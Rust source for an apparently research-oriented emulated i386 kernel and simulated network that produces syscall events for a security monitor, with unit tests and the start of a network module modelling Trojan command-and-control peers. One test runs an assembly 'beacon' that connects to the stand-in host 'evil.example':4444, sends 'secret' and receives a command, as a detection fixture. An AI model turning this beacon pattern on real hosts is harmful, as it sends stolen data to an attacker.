            heap_bytes: parent.heap_bytes,
        }
    }

    /// Replaces `proc`'s image with registered binary `path` (the second
    /// half of `execve`). Descriptors survive, memory does not.
    ///
    /// # Errors
    ///
    /// Returns [`SpawnError`] when the binary is unknown or broken.
    pub fn exec_into(
        &mut self,
        proc: &mut Process,
        path: &str,
        argv: &[&str],
    ) -> Result<(), SpawnError> {
        let spec = self
            .binaries
            .get(path)
            .cloned()
            .ok_or_else(|| SpawnError::UnknownBinary(path.to_string()))?;
        let mut core = self.build_core(path, &spec)?;
        let initial_stack = build_initial_stack(&mut core, argv, &[]);
        core.start();
        proc.core = core;
        proc.image_name = path.to_string();
        proc.cmdline = argv.iter().map(|s| s.to_string()).collect();
        proc.initial_stack = initial_stack;
        proc.heap_bytes = 0;
        Ok(())
    }

    /// True when `path` names a registered binary.
    pub fn knows_binary(&self, path: &str) -> bool {
        self.binaries.contains_key(path)
    }

    // ---- syscall dispatch ------------------------------------------------------

    /// Services the syscall pending in `proc` (registers per the i386
    /// convention), sets `eax`, and reports what happened.
    pub fn syscall(&mut self, proc: &mut Process) -> SyscallRecord {
        let nr = proc.core.cpu.get(Reg::Eax);
        let (name, ret, effect) = self.dispatch(proc, nr);
        proc.core.cpu.set(Reg::Eax, ret as u32);
        SyscallRecord { number: nr, name, ret, effect }
    }

    fn dispatch(&mut self, proc: &mut Process, nr: u32) -> (&'static str, i32, SyscallEffect) {
        let ebx = proc.core.cpu.get(Reg::Ebx);
        let ecx = proc.core.cpu.get(Reg::Ecx);
        let edx = proc.core.cpu.get(Reg::Edx);
        match nr {
            sysno::EXIT => {
                proc.state = ProcState::Exited(ebx as i32);
                ("SYS_exit", 0, SyscallEffect::Exit { code: ebx as i32 })
            }
            sysno::FORK => ("SYS_fork", 0, SyscallEffect::ForkRequested),
            sysno::CLONE => ("SYS_clone", 0, SyscallEffect::ForkRequested),
            sysno::READ => self.sys_read(proc, ebx as i32, ecx, edx),
            sysno::WRITE => self.sys_write(proc, ebx as i32, ecx, edx),
            sysno::OPEN => self.sys_open(proc, ebx, ecx),
            sysno::CLOSE => {
                let name = "SYS_close";
                match proc.fds.close(ebx as i32) {
                    Some(kind) => {
                        let resource = self.resource_of(&kind);
                        if let FdKind::Socket(id) = kind {
                            self.net.close(id);
                        }
                        (name, 0, SyscallEffect::Close { resource })
                    }
                    None => (name, -errno::EBADF, SyscallEffect::None),
                }
            }
            sysno::EXECVE => {
                let path = match proc.core.mem.read_cstr(ebx, 4096) {
                    Ok(p) => p,
                    Err(_) => return ("SYS_execve", -errno::EFAULT, SyscallEffect::None),
                };
                self.exec_log.push(path.clone());
                let found = self.knows_binary(&path);
                // The session performs the actual exec (after Secpert has
                // seen the event). The return value assumes failure; a
                // successful exec never returns.
                let ret = if found {
                    0
                } else if self.vfs.exists(&path) {
                    -errno::ENOEXEC
                } else {
                    -errno::ENOENT
                };
                ("SYS_execve", ret, SyscallEffect::ExecRequested { path, path_addr: ebx, found })
            }
            sysno::TIME => ("SYS_time", self.now() as i32, SyscallEffect::None),
            sysno::MKNOD => {
                let path = match proc.core.mem.read_cstr(ebx, 4096) {
                    Ok(p) => p,
                    Err(_) => return ("SYS_mknod", -errno::EFAULT, SyscallEffect::None),
                };
                self.vfs.mkfifo(&path);
                ("SYS_mknod", 0, SyscallEffect::Mknod { path, path_addr: ebx })
            }
            sysno::CHMOD => {
                let path = match proc.core.mem.read_cstr(ebx, 4096) {
                    Ok(p) => p,
                    Err(_) => return ("SYS_chmod", -errno::EFAULT, SyscallEffect::None),
                };
                let exec = ecx & 0o111 != 0;
                if self.vfs.chmod_exec(&path, exec) {
                    ("SYS_chmod", 0, SyscallEffect::Chmod { path })
                } else {
                    ("SYS_chmod", -errno::ENOENT, SyscallEffect::None)
                }
            }
            sysno::GETPID => ("SYS_getpid", proc.pid as i32, SyscallEffect::None),
            sysno::DUP => match proc.fds.dup(ebx as i32) {
                Some(new) => {
                    let resource =
                        proc.fds.get(new).map(|k| self.resource_of(k)).expect("just dup'ed");
                    ("SYS_dup", new, SyscallEffect::Dup { old: ebx as i32, new, resource })
                }
                None => ("SYS_dup", -errno::EBADF, SyscallEffect::None),
            },
            sysno::SOCKETCALL => self.sys_socketcall(proc, ebx, ecx),
            sysno::BRK => {
                // Simplified brk: ebx = bytes to grow the heap by.
                let grew = u64::from(ebx);
                let old_total = proc.heap_bytes;
                proc.heap_bytes += grew;
                let base = HEAP_BASE + old_total as u32;
                if grew > 0 && proc.heap_bytes <= MAX_HEAP {
                    proc.core.mem.map(base, base + grew as u32);
                }
                (
                    "SYS_brk",
                    (HEAP_BASE as u64 + proc.heap_bytes) as i32,
                    SyscallEffect::Brk { grew, total: proc.heap_bytes },
                )
            }
            sysno::NANOSLEEP => {
                self.ticks += u64::from(ebx);
                ("SYS_nanosleep", 0, SyscallEffect::Sleep { ticks: u64::from(ebx) })
            }
            sysno::RESOLVE => {
                let name = match proc.core.mem.read_cstr(ebx, 1024) {
                    Ok(n) => n,
                    Err(_) => return ("SYS_resolve", -errno::EFAULT, SyscallEffect::None),
                };
                match self.net.resolve(&name) {
                    Ok(ip) => (
                        "SYS_resolve",
                        ip as i32,
                        SyscallEffect::Resolve { name, name_addr: ebx, ok: true },
                    ),
                    Err(_) => (
                        "SYS_resolve",
                        0,
                        SyscallEffect::Resolve { name, name_addr: ebx, ok: false },
                    ),
                }
            }
            _ => ("SYS_unknown", -errno::ENOSYS, SyscallEffect::None),
        }
    }

    fn resource_of(&self, kind: &FdKind) -> Resource {
        match kind {
            FdKind::Stdin => Resource::Stdin,
            FdKind::Stdout => Resource::Stdout,
            FdKind::Stderr => Resource::Stderr,
            FdKind::File { path, fifo, .. } => Resource::File { path: path.clone(), fifo: *fifo },
            FdKind::Socket(id) => match self.net.get(*id) {
                Ok(sock) => match sock.state {
                    SocketState::Connected { local, remote, accepted } => Resource::Socket {
                        local: Some(local),
                        remote: Some(remote),
                        listening: false,
                        accepted,
                    },
                    SocketState::Listening(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: true,
                        accepted: false,
                    },
                    SocketState::Bound(ep) => Resource::Socket {
                        local: Some(ep),
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                    _ => Resource::Socket {
                        local: None,
                        remote: None,
                        listening: false,
                        accepted: false,
                    },
                },
                Err(_) => Resource::Socket {
                    local: None,
                    remote: None,
                    listening: false,
                    accepted: false,
                },
            },
        }
    }

    fn sys_open(
        &mut self,
        proc: &mut Process,
        path_ptr: u32,
        flags: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let name = "SYS_open";
        let path = match proc.core.mem.read_cstr(path_ptr, 4096) {
            Ok(p) => p,
            Err(_) => return (name, -errno::EFAULT, SyscallEffect::None),
        };
        let writing = flags & (oflags::WRONLY | oflags::RDWR | oflags::CREAT) != 0;
        if writing {
            self.vfs.open_write(&path, flags & oflags::TRUNC != 0);
        } else if !self.vfs.exists(&path) {
            return (name, -errno::ENOENT, SyscallEffect::None);
        }
        let fifo = matches!(self.vfs.get(&path).map(|n| &n.kind), Some(FileKind::Fifo(_)));
        let offset = if flags & oflags::APPEND != 0 {
            self.vfs.get(&path).map_or(0, |n| n.data().len())
        } else {
            0
        };
        let fd = proc.fds.alloc(FdKind::File { path: path.clone(), offset, fifo });
        (
            name,
            fd,
            SyscallEffect::Open {
                fd,
                resource: Resource::File { path, fifo },
                path_addr: path_ptr,
            },
        )
    }

    fn sys_read(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let name = "SYS_read";
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (name, -errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let bytes: Vec<u8> = match kind {
            FdKind::Stdin => self.stdin_script.pop_front().unwrap_or_default(),
            FdKind::Stdout | FdKind::Stderr => return (name, -errno::EBADF, SyscallEffect::None),
            FdKind::File { ref path, offset, .. } => {
                let Some(data) = self.vfs.read(path, offset, len as usize) else {
                    return (name, -errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += data.len();
                }
                data
            }
            FdKind::Socket(id) => match self.net.recv(id, len as usize) {
                Ok(data) => data,
                Err(NetError::WouldBlock) => return (name, -errno::EAGAIN, SyscallEffect::None),
                Err(_) => return (name, -errno::EINVAL, SyscallEffect::None),
            },
        };
        let take = bytes.len().min(len as usize);
        if proc.core.mem.write_bytes(buf, &bytes[..take]).is_err() {
            return (name, -errno::EFAULT, SyscallEffect::None);
        }
        (name, take as i32, SyscallEffect::Read { resource, buf, len: take as u32 })
    }

    fn sys_write(
        &mut self,
        proc: &mut Process,
        fd: i32,
        buf: u32,
        len: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let name = "SYS_write";
        let Some(kind) = proc.fds.get(fd).cloned() else {
            return (name, -errno::EBADF, SyscallEffect::None);
        };
        let resource = self.resource_of(&kind);
        let Ok(bytes) = proc.core.mem.read_bytes(buf, len) else {
            return (name, -errno::EFAULT, SyscallEffect::None);
        };
        let written = match kind {
            FdKind::Stdin => return (name, -errno::EBADF, SyscallEffect::None),
            FdKind::Stdout | FdKind::Stderr => {
                self.stdout.extend_from_slice(&bytes);
                bytes.len()
            }
            FdKind::File { ref path, offset, .. } => {
                let Some(n) = self.vfs.write(path, offset, &bytes) else {
                    return (name, -errno::ENOENT, SyscallEffect::None);
                };
                if let Some(FdKind::File { offset, .. }) = proc.fds.get_mut(fd) {
                    *offset += n;
                }
                n
            }
            FdKind::Socket(id) => match self.net.send(id, &bytes) {
                Ok(n) => n,
                Err(_) => return (name, -errno::EINVAL, SyscallEffect::None),
            },
        };
        (name, written as i32, SyscallEffect::Write { resource, buf, len: written as u32 })
    }

    fn sys_socketcall(
        &mut self,
        proc: &mut Process,
        call: u32,
        args_ptr: u32,
    ) -> (&'static str, i32, SyscallEffect) {
        let arg = |core: &Core, i: u32| core.mem.read_u32(args_ptr + 4 * i);
        match call {
            sockcall::SOCKET => {
                let id = self.net.socket();
                let fd = proc.fds.alloc(FdKind::Socket(id));
                ("SYS_socket", fd, SyscallEffect::SocketCreated { fd })
            }
            sockcall::BIND => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_bind", -errno::EBADF, SyscallEffect::None);
                };
                let Some(mut ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_bind", -errno::EFAULT, SyscallEffect::None);
                };
                if ep.ip == 0 {
                    ep.ip = self.net.local_ip();
                }
                match self.net.bind(id, ep) {
                    Ok(()) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_bind", 0, SyscallEffect::Bind { resource, addr_ptr, endpoint: ep })
                    }
                    Err(_) => ("SYS_bind", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::CONNECT => {
                let (Ok(fd), Ok(addr_ptr)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_connect", -errno::EBADF, SyscallEffect::None);
                };
                let Some(ep) = read_sockaddr(&proc.core, addr_ptr) else {
                    return ("SYS_connect", -errno::EFAULT, SyscallEffect::None);
                };
                match self.net.connect(id, ep) {
                    Ok(_local) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            0,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(NetError::Refused) => {
                        // The connection attempt is still an observable
                        // (and suspicious) act; report the endpoint.
                        let resource = self.resource_of(&FdKind::Socket(id));
                        (
                            "SYS_connect",
                            -errno::ECONNREFUSED,
                            SyscallEffect::Connect { resource, addr_ptr, endpoint: ep },
                        )
                    }
                    Err(_) => ("SYS_connect", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::LISTEN => {
                let Ok(fd) = arg(&proc.core, 0) else {
                    return ("SYS_listen", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_listen", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.listen(id) {
                    Ok(_) => {
                        let resource = self.resource_of(&FdKind::Socket(id));
                        ("SYS_listen", 0, SyscallEffect::Listen { resource })
                    }
                    Err(_) => ("SYS_listen", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::ACCEPT => {
                let (Ok(fd), Ok(addr_out)) = (arg(&proc.core, 0), arg(&proc.core, 1)) else {
                    return ("SYS_accept", -errno::EFAULT, SyscallEffect::None);
                };
                let Some(&FdKind::Socket(id)) = proc.fds.get(fd as i32) else {
                    return ("SYS_accept", -errno::EBADF, SyscallEffect::None);
                };
                match self.net.accept(id) {
                    Ok((conn, remote)) => {
                        if addr_out != 0 {
                            let _ = write_sockaddr(&mut proc.core, addr_out, remote);
                        }
                        let new_fd = proc.fds.alloc(FdKind::Socket(conn));
                        let resource = self.resource_of(&FdKind::Socket(conn));
                        ("SYS_accept", new_fd, SyscallEffect::Accept { fd: new_fd, resource })
                    }
                    Err(NetError::WouldBlock) => {
                        ("SYS_accept", -errno::EAGAIN, SyscallEffect::None)
                    }
                    Err(_) => ("SYS_accept", -errno::EINVAL, SyscallEffect::None),
                }
            }
            sockcall::SEND => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
                    return ("SYS_send", -errno::EFAULT, SyscallEffect::None);
                };
                let (name, ret, effect) = self.sys_write(proc, fd as i32, buf, len);
                (if name == "SYS_write" { "SYS_send" } else { name }, ret, effect)
            }
            sockcall::RECV => {
                let (Ok(fd), Ok(buf), Ok(len)) =
                    (arg(&proc.core, 0), arg(&proc.core, 1), arg(&proc.core, 2))
                else {
                    return ("SYS_recv", -errno::EFAULT, SyscallEffect::None);
                };
                let (name, ret, effect) = self.sys_read(proc, fd as i32, buf, len);
                (if name == "SYS_read" { "SYS_recv" } else { name }, ret, effect)
            }
            _ => ("SYS_socketcall", -errno::EINVAL, SyscallEffect::None),
        }
    }
}

/// Reads the simplified 8-byte sockaddr `{u16 family, u16 port, u32 ip}`
/// (all little-endian; family 2 = AF_INET).
fn read_sockaddr(core: &Core, addr: u32) -> Option<Endpoint> {
    let family = core.mem.read_u32(addr).ok()? & 0xffff;
    if family != 2 {
        return None;
    }
    let word = core.mem.read_u32(addr).ok()?;
    let port = (word >> 16) as u16;
    let ip = core.mem.read_u32(addr + 4).ok()?;
    Some(Endpoint { ip, port })
}

/// Writes the simplified sockaddr.
fn write_sockaddr(core: &mut Core, addr: u32, ep: Endpoint) -> Result<(), hth_vm::MemFault> {
    core.mem.write_u32(addr, 2 | (u32::from(ep.port) << 16))?;
    core.mem.write_u32(addr + 4, ep.ip)
}

/// Builds the initial stack: `argc`, `argv[]`, `envp[]` and their
/// strings. Returns the `[esp, top)` range holding this user-controlled
/// content — the monitor tags it `USER_INPUT` (paper §7.3.3).
pub fn build_initial_stack(core: &mut Core, argv: &[&str], env: &[(&str, &str)]) -> (u32, u32) {
    let top = STACK_TOP - 16;
    let mut cursor = top;
    let mut write_str = |core: &mut Core, s: &str| -> u32 {
        cursor -= s.len() as u32 + 1;
        core.mem.write_bytes(cursor, s.as_bytes()).expect("stack mapped");
        core.mem.write_u8(cursor + s.len() as u32, 0).expect("stack mapped");
        cursor
    };
    let arg_ptrs: Vec<u32> = argv.iter().map(|a| write_str(core, a)).collect();
    let env_ptrs: Vec<u32> =
        env.iter().map(|(k, v)| write_str(core, &format!("{k}={v}"))).collect();
    let mut sp = cursor & !3;
    let mut push = |core: &mut Core, v: u32| {
        sp -= 4;
        core.mem.write_u32(sp, v).expect("stack mapped");
    };
    push(core, 0);
    for &p in env_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, 0);
    for &p in arg_ptrs.iter().rev() {
        push(core, p);
    }
    push(core, argv.len() as u32);
    core.cpu.set(Reg::Esp, sp);
    (sp, top)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hth_vm::{NullHooks, StepEvent};

    /// Runs a registered binary to completion without any monitor,
    /// servicing syscalls; returns the records and the kernel.
    fn run(kernel: &mut Kernel, path: &str, argv: &[&str]) -> (Vec<SyscallRecord>, Process) {
        let mut proc = kernel.spawn(path, argv, &[]).unwrap();
        let mut records = Vec::new();
        for _ in 0..200_000 {
            if !proc.runnable() {
                break;
            }
            match proc.core.step(&mut NullHooks).unwrap() {
                StepEvent::Continue => {}
                StepEvent::Halted => break,
                StepEvent::Interrupt(0x80) => {
                    let rec = kernel.syscall(&mut proc);
                    records.push(rec);
                }
                StepEvent::Interrupt(_) => break,
            }
        }
        (records, proc)
    }

    #[test]
    fn spawn_builds_runnable_process_with_argv() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/echoargs",
            r"
            _start:
                mov eax, [esp]      ; argc
                hlt
            ",
            &[],
        );
        let mut proc = kernel.spawn("/bin/echoargs", &["/bin/echoargs", "a", "bb"], &[]).unwrap();
        while proc.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        assert_eq!(proc.core.cpu.get(Reg::Eax), 3);
        let (lo, hi) = proc.initial_stack;
        assert!(lo < hi && hi <= STACK_TOP);
    }

    #[test]
    fn open_write_read_close_cycle() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/filer",
            r#"
            .equ SYS_read, 3
            .equ SYS_write, 4
            .equ SYS_open, 5
            .equ SYS_close, 6
            .equ SYS_exit, 1
            .equ O_CREAT, 0x40
            _start:
                mov eax, SYS_open
                mov ebx, path
                mov ecx, O_CREAT
                int 0x80
                mov esi, eax        ; fd
                mov eax, SYS_write
                mov ebx, esi
                mov ecx, msg
                mov edx, 5
                int 0x80
                mov eax, SYS_close
                mov ebx, esi
                int 0x80
                mov eax, SYS_exit
                mov ebx, 0
                int 0x80
            .data
            path: .asciz "/tmp/out"
            msg:  .asciz "hello"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/filer", &["/bin/filer"]);
        assert_eq!(proc.state, ProcState::Exited(0));
        assert_eq!(kernel.vfs.get("/tmp/out").unwrap().data(), b"hello");
        assert!(matches!(records[0].effect, SyscallEffect::Open { fd: 3, .. }));
        assert!(matches!(
            &records[1].effect,
            SyscallEffect::Write { resource: Resource::File { path, .. }, len: 5, .. }
            if path == "/tmp/out"
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Close { .. }));
    }

    #[test]
    fn stdin_is_scripted_user_input() {
        let mut kernel = Kernel::new();
        kernel.push_stdin(b"secret".to_vec());
        kernel.register_binary(
            "/bin/reader",
            r"
            _start:
                mov eax, 3          ; read
                mov ebx, 0          ; stdin
                mov ecx, 0x09000000 ; scratch
                mov edx, 64
                int 0x80
                hlt
            ",
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/reader", &["r"]);
        assert_eq!(records[0].ret, 6);
        assert!(matches!(records[0].effect, SyscallEffect::Read { resource: Resource::Stdin, .. }));
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 6).unwrap(), b"secret");
    }

    #[test]
    fn execve_reports_and_logs() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/launcher",
            r#"
            _start:
                mov eax, 11
                mov ebx, prog
                int 0x80
                hlt
            .data
            prog: .asciz "/bin/ls"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/launcher", &["l"]);
        assert_eq!(records[0].name, "SYS_execve");
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::ExecRequested { path, found: false, .. } if path == "/bin/ls"
        ));
        assert_eq!(kernel.exec_log, vec!["/bin/ls".to_string()]);
        assert_eq!(records[0].ret, -errno::ENOENT);
    }

    #[test]
    fn fork_clones_and_resumes_child() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/forker",
            r"
            _start:
                mov eax, 2          ; fork
                int 0x80
                hlt
            ",
            &[],
        );
        let mut parent = kernel.spawn("/bin/forker", &["f"], &[]).unwrap();
        // Step to the interrupt.
        while parent.core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        let rec = kernel.syscall(&mut parent);
        assert!(matches!(rec.effect, SyscallEffect::ForkRequested));
        let child = kernel.fork(&parent);
        parent.core.cpu.set(Reg::Eax, child.pid);
        assert_eq!(child.core.cpu.get(Reg::Eax), 0);
        assert_eq!(child.parent, parent.pid);
        assert_ne!(child.pid, parent.pid);
        assert_eq!(kernel.fork_ticks.len(), 1);
    }

    #[test]
    fn socket_client_round_trip() {
        use crate::net::Peer;
        let mut kernel = Kernel::new();
        kernel.net.add_host("evil.example", 0x0808_0808);
        kernel.net.add_peer(
            Endpoint { ip: 0x0808_0808, port: 4444 },
            Peer { replies: [b"cmd".to_vec()].into(), ..Peer::default() },
        );
        kernel.register_binary(
            "/bin/beacon",
            r#"
            .equ SCRATCH, 0x09000000
            _start:
                ; socket()
                mov eax, 102
                mov ebx, 1
                mov ecx, sockargs
                int 0x80
                mov esi, eax                ; fd
                ; connect(fd, &addr, 8)
                mov [connargs], esi
                mov eax, 102
                mov ebx, 3
                mov ecx, connargs
                int 0x80
                ; send(fd, secret, 6, 0)
                mov [sendargs], esi
                mov eax, 102
                mov ebx, 9
                mov ecx, sendargs
                int 0x80
                ; recv(fd, SCRATCH, 16, 0)
                mov [recvargs], esi
                mov eax, 102
                mov ebx, 10
                mov ecx, recvargs
                int 0x80
                hlt
            .data
            sockargs: .long 2, 1, 0
            addr:     .word 2
            port:     .word 4444
            ip:       .long 0x08080808
            connargs: .long 0, addr, 8
            secret:   .asciz "secret"
            sendargs: .long 0, secret, 6, 0
            recvargs: .long 0, 0x09000000, 16, 0
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/beacon", &["b"]);
        assert!(matches!(records[0].effect, SyscallEffect::SocketCreated { fd: 3 }));
        assert!(matches!(
            records[1].effect,
            SyscallEffect::Connect { endpoint: Endpoint { ip: 0x0808_0808, port: 4444 }, .. }
        ));
        assert!(matches!(records[2].effect, SyscallEffect::Write { len: 6, .. }));
        assert!(matches!(records[3].effect, SyscallEffect::Read { len: 3, .. }));
        assert_eq!(
            kernel.net.peer_received(Endpoint { ip: 0x0808_0808, port: 4444 }),
            &[b"secret".to_vec()]
        );
        assert_eq!(proc.core.mem.read_bytes(0x0900_0000, 3).unwrap(), b"cmd");
    }

    #[test]
    fn resolve_syscall_resolves_dns() {
        let mut kernel = Kernel::new();
        kernel.net.add_host("pop.mail.yahoo.com", 0x0101_0101);
        kernel.register_binary(
            "/bin/dns",
            r#"
            _start:
                mov eax, 200
                mov ebx, host
                int 0x80
                hlt
            .data
            host: .asciz "pop.mail.yahoo.com"
            "#,
            &[],
        );
        let (records, proc) = run(&mut kernel, "/bin/dns", &["d"]);
        assert!(matches!(
            &records[0].effect,
            SyscallEffect::Resolve { name, ok: true, .. } if name == "pop.mail.yahoo.com"
        ));
        assert_eq!(proc.core.cpu.get(Reg::Eax), 0x0101_0101);
    }

    #[test]
    fn nanosleep_advances_clock() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/sleepy",
            "_start:\n mov eax, 162\n mov ebx, 500\n int 0x80\n hlt\n",
            &[],
        );
        assert_eq!(kernel.now(), 0);
        let (records, _) = run(&mut kernel, "/bin/sleepy", &["s"]);
        assert!(matches!(records[0].effect, SyscallEffect::Sleep { ticks: 500 }));
        assert_eq!(kernel.now(), 500);
    }

    #[test]
    fn instruction_accounting_ticks() {
        let mut kernel = Kernel::new();
        kernel.set_instr_per_tick(10);
        kernel.note_instructions(25);
        assert_eq!(kernel.now(), 2);
        kernel.note_instructions(5);
        assert_eq!(kernel.now(), 3);
    }

    #[test]
    fn mknod_creates_fifo_and_io_works() {
        let mut kernel = Kernel::new();
        kernel.register_binary(
            "/bin/piper",
            r#"
            _start:
                mov eax, 14          ; mknod
                mov ebx, pipe_name
                mov ecx, 0x1000
                int 0x80
                mov eax, 5           ; open
                mov ebx, pipe_name
                mov ecx, 0x1
                int 0x80
                mov esi, eax
                mov eax, 4           ; write
                mov ebx, esi
                mov ecx, data
                mov edx, 3
                int 0x80
                hlt
            .data
            pipe_name: .asciz "inpipe1"
            data: .asciz "ok!"
            "#,
            &[],
        );
        let (records, _) = run(&mut kernel, "/bin/piper", &["p"]);
        assert!(
            matches!(&records[0].effect, SyscallEffect::Mknod { path, .. } if path == "inpipe1")
        );
        assert!(matches!(
            &records[2].effect,
            SyscallEffect::Write { resource: Resource::File { fifo: true, .. }, .. }
        ));
        assert_eq!(kernel.vfs.read("inpipe1", 0, 10).unwrap(), b"ok!");
    }
}
