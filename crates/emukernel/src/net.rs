//! Simulated network: DNS, scripted remote peers, and sockets.
//!
//! The paper's workloads talk to "fixed remote hosts" (Trojan
//! command-and-control), act as servers accepting remote attackers
//! (`pma`), and resolve names through `gethostbyname`. All of that is
//! modelled here deterministically: remote peers are scripted byte
//! exchanges, and the DNS table maps names to addresses with a reverse
//! map so warnings can render `gateway:36982 (AF_INET)` like the paper.

use std::collections::{HashMap, VecDeque};
use std::fmt;

/// An IPv4-ish address (opaque 32-bit value).
pub type Ip = u32;

/// A network endpoint.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct Endpoint {
    /// Host address.
    pub ip: Ip,
    /// Port.
    pub port: u16,
}

impl fmt::Display for Endpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let [a, b, c, d] = self.ip.to_be_bytes();
        write!(f, "{a}.{b}.{c}.{d}:{}", self.port)
    }
}

/// A scripted remote server the monitored program may `connect` to.
#[derive(Clone, Debug, Default)]
pub struct Peer {
    /// Chunks delivered into the socket as soon as the connection opens.
    pub on_connect: Vec<Vec<u8>>,
    /// One chunk is delivered after each `send` from the program.
    pub replies: VecDeque<Vec<u8>>,
    /// Everything the program sent to this peer.
    pub received: Vec<Vec<u8>>,
}

/// A scripted remote client that will connect to a listening socket.
#[derive(Clone, Debug)]
pub struct RemoteClient {
    /// The client's remote endpoint.
    pub from: Endpoint,
    /// Chunks the client sends; one is delivered per program `recv`.
    pub sends: VecDeque<Vec<u8>>,
    /// Everything the program sent back.
    pub received: Vec<Vec<u8>>,
}

/// Socket lifecycle state.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SocketState {
    /// Created, unbound.
    Created,
    /// Bound to a local endpoint.
    Bound(Endpoint),
    /// Listening on a local endpoint.
    Listening(Endpoint),
    /// Connected (client side or accepted server side).
    Connected {
        /// Local endpoint.
        local: Endpoint,
        /// Remote endpoint.
        remote: Endpoint,
        /// True when this socket came from `accept` (we are the server).
        accepted: bool,
    },
    /// Closed.
    Closed,
}

/// A socket: state plus the inbound byte-chunk queue.
#[derive(Clone, Debug)]
pub struct Socket {
    /// Lifecycle state.
    pub state: SocketState,
    /// Chunks available to `recv`.
    pub inbox: VecDeque<Vec<u8>>,
    /// Index into the per-port client list for accepted sockets.
    pub client_ref: Option<(u16, usize)>,
    /// Remote peer endpoint for connected client sockets.
    pub peer_ref: Option<Endpoint>,
}

impl Socket {
    fn new() -> Socket {
        Socket {
            state: SocketState::Created,
            inbox: VecDeque::new(),
            client_ref: None,
            peer_ref: None,
        }
    }
}

/// Handle to a socket in the network's socket table.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct SocketId(pub usize);

/// The simulated network.
#[derive(Clone, Debug, Default)]
pub struct Network {
    dns: HashMap<String, Ip>,
    rdns: HashMap<Ip, String>,
    peers: HashMap<Endpoint, Peer>,
    pending_clients: HashMap<u16, VecDeque<RemoteClient>>,
    accepted_clients: HashMap<u16, Vec<RemoteClient>>,
    sockets: Vec<Socket>,
    next_ephemeral: u16,
    local_ip: Ip,
}

/// Error codes mirroring errno (negated in syscall returns).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum NetError {
    /// No peer at the destination (`ECONNREFUSED`).
    Refused,
    /// Name did not resolve (`h_errno`).
    NoSuchHost,
    /// Socket in the wrong state (`EINVAL`).
    BadState,
    /// Nothing to accept / read right now (`EAGAIN`).
    WouldBlock,
    /// Unknown socket id (`EBADF`).
    BadSocket,
}

impl Network {
    /// Creates an empty network; the local host is `127.0.0.1`
    /// ("LocalHost" in reverse DNS, matching the paper's warnings).
    pub fn new() -> Network {
        let mut net =
            Network { local_ip: 0x7f00_0001, next_ephemeral: 32768, ..Network::default() };
        net.add_host("LocalHost", 0x7f00_0001);
        net
    }

    /// Registers a DNS name.
    pub fn add_host(&mut self, name: &str, ip: Ip) {
        self.dns.insert(name.to_string(), ip);
        self.rdns.entry(ip).or_insert_with(|| name.to_string());
    }

    /// Installs a scripted server at `endpoint`.
    pub fn add_peer(&mut self, endpoint: Endpoint, peer: Peer) {
        self.peers.insert(endpoint, peer);
    }

    /// Queues a scripted client that will connect to local `port`.
    pub fn queue_client(&mut self, port: u16, client: RemoteClient) {
        self.pending_clients.entry(port).or_default().push_back(client);
    }

    /// Resolves a DNS name.
    pub fn resolve(&self, name: &str) -> Result<Ip, NetError> {
        self.dns.get(name).copied().ok_or(NetError::NoSuchHost)
    }

    /// Reverse-resolves an address for display; falls back to dotted quad.
    pub fn display_host(&self, ip: Ip) -> String {
        match self.rdns.get(&ip) {
            Some(name) => name.clone(),
            None => {
                let [a, b, c, d] = ip.to_be_bytes();
                format!("{a}.{b}.{c}.{d}")
            }
        }
    }

